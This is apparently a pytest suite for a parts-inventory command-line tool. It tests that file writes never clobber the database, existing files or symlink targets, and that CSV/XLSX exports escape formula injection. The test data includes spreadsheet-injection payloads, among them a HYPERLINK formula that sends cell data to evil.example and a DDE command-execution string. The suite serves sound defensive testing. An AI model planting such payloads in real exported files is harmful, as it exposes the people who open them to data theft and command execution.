"""Files the desk writes (issue 11, items 1 and 7): never over the live database, never over an existing file
without --force, never through a planted link, private database files, and exports that are not a weapon."""

from __future__ import annotations

import csv
import io
import os
import stat
import tempfile

import pytest
from openpyxl import load_workbook

from core.errors import BadInput
from core.files import FileExists, protect_database, write_file
from core.tabular import csv_bytes, escape_cell, xlsx_bytes
from data.db import Database
from tests.helpers import SAMPLES
from tests.helpers.cli import Station, refused
from tests.helpers.orders import sent_order_cli

# The four payloads of the issue, and the other starts OWASP names.
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)"]
OTHER_STARTS = ["-2+3", "\t=1+1", "\r=1+1"]


@pytest.fixture
def station(tmp_path, monkeypatch):
    s = Station(tmp_path / "station.sqlite")
    assert s.run("init", "--admin", "ADMIN", "--pin", "1234").exit_code == 0
    for code, role in [("STORE1", "storekeeper"), ("PLAN1", "planner")]:
        added = s.run("operator", "add", code, "--name", code, "--role", role, "--pin", "1234", as_="ADMIN")
        assert added.exit_code == 0, added.stderr
    assert s.run("part", "import", str(SAMPLES / "parts_master.csv"), as_="PLAN1").exit_code == 0
    return s


@pytest.fixture
def order(station):
    return sent_order_cli(station, "SGM", "96536697:4")


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


# -- the live database ---------------------------------------------------------------------------


@pytest.mark.parametrize("side", ["", "-wal", "-shm", "-journal"])
def test_print_out_never_lands_on_the_database_or_its_files(station, order, side):
    target = f"{station.path}{side}"
    for extra in ((), ("--force",)):
        refused(station.run("print", "po", order, "--out", target, *extra), 2,
                "is the station's database (or one of its files): it is never written over")
    # The database still works: before the fix the slip replaced it ("file is not a database").
    assert station.run("stock", "check").exit_code == 0
    assert station.json("po", "show", order)["po"] == order


def test_a_link_to_the_database_or_another_name_for_it_is_refused_too(station, order, tmp_path):
    link = tmp_path / "slip.txt"
    link.symlink_to(station.path)
    refused(station.run("print", "po", order, "--out", str(link), "--force"), 2, "is the station's database")
    relative = os.path.relpath(station.path)
    refused(station.run("print", "po", order, "--out", relative, "--force"), 2, "is the station's database")
    assert station.run("stock", "check").exit_code == 0


def test_any_sqlite_database_is_never_written_over(station, order, tmp_path):
    import sqlite3

    other = tmp_path / "other.sqlite"  # another station's file, not opened by partsdesk
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE t (x)")
    refused(station.run("print", "po", order, "--out", str(other), "--force"), 2, "is a SQLite database")


def test_write_file_refuses_every_database_this_process_opened(tmp_path):
    database = tmp_path / "live.sqlite"
    protect_database(database)
    for side in ("", "-wal", "-shm", "-journal"):
        with pytest.raises(BadInput, match="is the station's database"):
            write_file(f"{database}{side}", b"slip", force=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# -- existing files: --force ---------------------------------------------------------------------


def _commands(station, order, tmp_path) -> list[tuple[str, ...]]:
    receipt = station.json("receive", "open", str(SAMPLES / "packing_list.csv"), "--carrier", "SF",
                           as_="STORE1")["receipt"]
    draft = station.json("request", "draft", as_="PLAN1")["request"]
    return [
        ("request", "export", draft, "--out", str(tmp_path / "draft.xlsx")),
        ("print", "po", order, "--out", str(tmp_path / "po.txt")),
        ("print", "po", order, "--out", str(tmp_path / "po.pdf")),
        ("po", "export", order, "--out", str(tmp_path / "po.csv")),
        ("po", "export", order, "--out", str(tmp_path / "po.xlsx")),
        ("label", "part", "96536697", "--out", str(tmp_path / "part.svg")),
        ("label", "location", "EXC-01-02-03", "--out", str(tmp_path / "bin.pdf")),
        ("label", "document", order, "--out", str(tmp_path / "doc.png")),
        ("label", "sheet", "--locations", "EXC-01", "--out", str(tmp_path / "bins.pdf")),
        ("receive", "slip", receipt, "--out", str(tmp_path / "slip.txt")),
        ("receive", "discrepancy", receipt, "--out", str(tmp_path / "discrepancy.txt")),
    ]


def test_every_out_refuses_an_existing_file_unless_forced(station, order, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    for command in _commands(station, order, out):
        target = out / os.path.basename(command[-1])
        target.write_bytes(b"kept")
        refused(station.run(*command), 2, f"{target} exists: give --force to replace it")
        assert target.read_bytes() == b"kept", command
        forced = station.run(*command, "--force")
        assert forced.exit_code == 0, (command, forced.stderr)
        assert target.read_bytes() != b"kept", command
    # Nothing left beside the files: no temporary file survives a write or a refusal.
    assert all(not name.startswith(".") for name in os.listdir(out)), os.listdir(out)


# -- temporary files and links -------------------------------------------------------------------


def test_a_link_planted_at_the_temporary_name_is_never_written_through(tmp_path, monkeypatch):
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    folder = tmp_path / "prints"
    folder.mkdir()
    (folder / "slip.txt.part").symlink_to(victim)  # the old fixed temporary name
    # Any other temporary name too: the first name tempfile tries is made to be a planted link as well.
    names = iter(["planted", "fresh1234"])
    monkeypatch.setattr(tempfile, "_get_candidate_names", lambda: names)
    (folder / ".slip.txt.planted.part").symlink_to(victim)
    assert write_file(folder / "slip.txt", b"slip") == folder / "slip.txt"
    assert victim.read_bytes() == b"precious"
    assert (folder / "slip.txt").read_bytes() == b"slip" and not (folder / "slip.txt").is_symlink()
    assert sorted(os.listdir(folder)) == [".slip.txt.planted.part", "slip.txt", "slip.txt.part"]


def test_a_link_at_the_target_is_refused_and_forcing_replaces_the_link_not_its_target(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    link = tmp_path / "slip.txt"
    link.symlink_to(victim)
    with pytest.raises(FileExists, match="slip.txt exists: give --force"):
        write_file(link, b"slip")
    write_file(link, b"slip", force=True)
    assert victim.read_bytes() == b"precious"
    assert not link.is_symlink() and link.read_bytes() == b"slip"


def test_a_failed_write_leaves_nothing_and_keeps_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "po.txt"
    target.write_bytes(b"old")

    def full_disk(*_args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(BadInput, match="cannot write .*po.txt: No space left on device"):
        write_file(target, b"new", force=True)
    assert target.read_bytes() == b"old" and os.listdir(tmp_path) == ["po.txt"]


# -- private database files ----------------------------------------------------------------------


def test_a_new_database_is_private_folder_0700_file_0600_and_its_wal_and_shm_too(tmp_path):
    path = tmp_path / "station" / "partsdesk.sqlite"
    station = Station(path)
    assert station.run("init", "--admin", "ADMIN", "--pin", "1234").exit_code == 0
    assert _mode(path.parent) == 0o700 and _mode(path) == 0o600
    database = Database(f"sqlite:///{path}")
    try:
        with database.reading() as uow, uow.read() as conn:  # an open connection keeps the -wal and -shm
            from sqlalchemy import text

            conn.execute(text("SELECT count(*) FROM operator")).scalar_one()
            sides = [p for p in (path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")) if p.exists()]
            assert sides, "WAL mode keeps a -wal and a -shm beside the file while a connection is open"
            assert all(_mode(p) == 0o600 for p in sides), [(p.name, oct(_mode(p))) for p in sides]
    finally:
        database.dispose()


def test_written_files_are_private_too(tmp_path):
    assert _mode(write_file(tmp_path / "slip.txt", b"slip")) == 0o600


# -- exports are not a weapon (item 7) -----------------------------------------------------------


def test_the_rule_escapes_formula_starts_and_leaves_numbers_and_plain_text():
    for payload in PAYLOADS + OTHER_STARTS:
        assert escape_cell(payload) == "'" + payload
    assert escape_cell("Brake pads") == "Brake pads" and escape_cell("") == ""
    assert escape_cell(4) == 4 and escape_cell(-4) == -4  # a number is never a formula


def test_csv_and_xlsx_exports_escape_every_payload():
    rows = [[payload, 1] for payload in PAYLOADS + OTHER_STARTS]
    read = list(csv.reader(io.StringIO(csv_bytes(["name", "qty"], rows).decode("utf-8-sig"))))
    assert [row[0] for row in read[1:]] == ["'" + payload for payload in PAYLOADS + OTHER_STARTS]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("T", ["name", "qty"], rows))).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, len(rows) + 2)]
    # The text exact, read back as written (XML reads a carriage return as a line feed).
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS + OTHER_STARTS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, never a formula; Excel's quote prefix
    assert sheet.cell(row=2, column=2).data_type == "n"


def test_po_export_escapes_part_names_in_csv_and_xlsx(station, tmp_path):
    lines = []
    for index, payload in enumerate(PAYLOADS, start=1):
        part_no = f"9900000{index}"
        added = station.run("part", "add", part_no, "--name", payload, "--price", "10", as_="PLAN1")
        assert added.exit_code == 0, added.stderr
        lines += ["--line", f"{part_no}:2"]
    po = sent_order_cli(station, "SGM", *lines[1::2])
    assert station.run("po", "export", po, "--out", str(tmp_path / "po.csv")).exit_code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "po.csv").read_text(encoding="utf-8-sig"))))
    assert [row[4] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[5] for row in rows[1:]] == ["2"] * 4  # quantities are never negative: never escaped
    assert station.run("po", "export", po, "--out", str(tmp_path / "po.xlsx")).exit_code == 0
    sheet = load_workbook(tmp_path / "po.xlsx").active
    names = [sheet.cell(row=i, column=5) for i in range(2, 6)]
    assert [c.value for c in names] == PAYLOADS and all(c.data_type == "s" for c in names)
    raw = _sheet_xml(tmp_path / "po.xlsx")
    assert "<f>" not in raw and "<f " not in raw  # no formula anywhere in the file


def _sheet_xml(path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_a_name_with_a_nul_is_one_line(station, order, tmp_path):
    refused(station.run("print", "po", order, "--out", f"{tmp_path}/po\x00.txt"), 2, "embedded null byte")
    with pytest.raises(BadInput, match="holds no NUL character"):
        write_file(f"{tmp_path}/po\x00.txt", b"slip")
    refused(Station(f"{tmp_path}/st\x00.sqlite").run("backup", str(tmp_path / "b.sqlite")), 2, "there is no database")
